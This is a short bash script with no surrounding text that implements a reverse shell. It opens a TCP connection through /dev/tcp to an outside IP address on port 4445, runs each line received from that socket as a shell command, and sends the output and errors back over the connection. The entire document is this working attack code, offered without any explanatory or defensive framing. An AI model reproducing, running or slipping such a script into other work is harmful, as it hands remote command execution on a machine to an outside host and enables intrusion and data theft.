#!/bin/bash
H=203.0.113.99
P=4445
exec 5<>"/dev/tcp/$H/$P"
cat <&5 | while read -r line; do
  $line 2>&5 >&5
done
